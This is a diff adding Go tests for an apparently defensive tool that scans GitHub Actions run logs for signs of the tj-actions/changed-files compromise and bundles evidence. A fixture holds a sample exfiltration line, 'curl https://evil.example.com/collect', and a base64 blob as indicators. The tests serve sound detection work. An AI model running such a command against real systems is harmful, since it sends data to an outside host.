@@ -0,0 +1,113 @@
+package main
+
+import (
+	"archive/zip"
+	"bytes"
+	"encoding/json"
+	"io"
+	"net/http"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+// runLogArchive zips log files the way the API serves the logs of a run
+func runLogArchive(files map[string]string) []byte {
+	var buf bytes.Buffer
+	zw := zip.NewWriter(&buf)
+	for name, content := range files {
+		w, err := zw.Create(name)
+		CheckIfError(err)
+		_, err = w.Write([]byte(content))
+		CheckIfError(err)
+	}
+	CheckIfError(zw.Close())
+	return buf.Bytes()
+}
+
+// --- Tests for grepRunLogs ---
+
+func TestGrepRunLogs(t *testing.T) {
+	blob := strings.Repeat("SGVsbG8gd29ybGQh", 10)
+	archive := runLogArchive(map[string]string{
+		"build/2_Run changed-files.txt": "2025-03-14T10:00:00Z Running\n2025-03-14T10:00:01Z " + blob + "\n",
+		"build/3_Upload.txt":            "curl https://evil.example.com/collect\nclean line\n",
+	})
+
+	matches, err := grepRunLogs(42, archive, parseIndicators([]string{"evil.example.com"}))
+	CheckIfError(err)
+
+	found := map[string]logMatch{}
+	for _, m := range matches {
+		found[m.Indicator] = m
+	}
+	if m := found["base64 blob"]; m.File != "build/2_Run changed-files.txt" || m.Line != 2 || m.Run != 42 || len(m.Excerpt) > maxExcerpt {
+		t.Errorf("unexpected base64 match %+v", m)
+	}
+	if m := found["evil.example.com"]; m.File != "build/3_Upload.txt" || m.Line != 1 || m.Excerpt != "curl https://evil.example.com/collect" {
+		t.Errorf("unexpected domain match %+v", m)
+	}
+	if len(matches) != 2 {
+		t.Errorf("expected 2 matches, got %+v", matches)
+	}
+}
+
+// --- Tests for collectEvidence ---
+
+func TestCollectEvidence(t *testing.T) {
+	archive := runLogArchive(map[string]string{"build/1_Run.txt": "posting to evil.example.com\n"})
+	transport := roundTripFunc(func(req *http.Request) (*http.Response, error) {
+		status, body := http.StatusOK, ""
+		switch req.URL.Path {
+		case "/repos/org/app/actions/workflows/ci.yml/runs":
+			if req.URL.Query().Get("created") != "2025-03-10..2025-03-15" {
+				t.Errorf("unexpected runs query %s", req.URL.RawQuery)
+			}
+			body = `{"workflow_runs": [
+				{"id": 1, "html_url": "https://github.com/org/app/actions/runs/1", "created_at": "2025-03-12T08:00:00Z"},
+				{"id": 2, "html_url": "https://github.com/org/app/actions/runs/2", "created_at": "2025-03-11T08:00:00Z"}
+			]}`
+		case "/repos/org/app/actions/runs/1/logs":
+			body = string(archive)
+		case "/repos/org/app/actions/runs/2/logs":
+			status = http.StatusGone
+		default:
+			t.Errorf("unexpected request %s", req.URL)
+		}
+		return &http.Response{StatusCode: status, Body: io.NopCloser(strings.NewReader(body)), Header: make(http.Header)}, nil
+	})
+
+	window, err := parseHuntWindow("2025-03-10", "2025-03-15")
+	CheckIfError(err)
+	hits := []huntHit{
+		{Repository: "org/app", Branch: "main", File: ".github/workflows/ci.yml", Line: 6, Uses: "tj-actions/changed-files@v45"},
+		{Repository: "org/app", Branch: "main", File: ".github/workflows/ci.yml", Line: 3, Uses: "tj-actions/changed-files@v45", Commit: "c1", Date: time.Date(2025, 3, 12, 0, 0, 0, 0, time.UTC)},
+	}
+	dir := t.TempDir()
+
+	withHTTPClientTransport(transport, func() {
+		bundles, err := collectEvidence(hits, window, parseIndicators([]string{"evil.example.com"}), dir)
+		CheckIfError(err)
+		if len(bundles) != 1 {
+			t.Fatalf("expected one bundle, got %d", len(bundles))
+		}
+		e := bundles[0]
+		if len(e.Runs) != 2 || len(e.Matches) != 1 || len(e.Missing) != 1 || !strings.Contains(e.Missing[0], "runs/2") {
+			t.Errorf("unexpected evidence %+v", e)
+		}
+	})
+
+	bundleDir := filepath.Join(dir, "org-app")
+	if _, err := os.Stat(filepath.Join(bundleDir, "run-1.zip")); err != nil {
+		t.Errorf("expected the logs of run 1 in the bundle: %v", err)
+	}
+	data, err := os.ReadFile(filepath.Join(bundleDir, "evidence.json"))
+	CheckIfError(err)
+	var saved repoEvidence
+	CheckIfError(json.Unmarshal(data, &saved))
+	if saved.Repository != "org/app" || len(saved.Hits) != 2 || saved.Matches[0].Indicator != "evil.example.com" {
+		t.Errorf("unexpected evidence.json:\n%s", data)
+	}
+}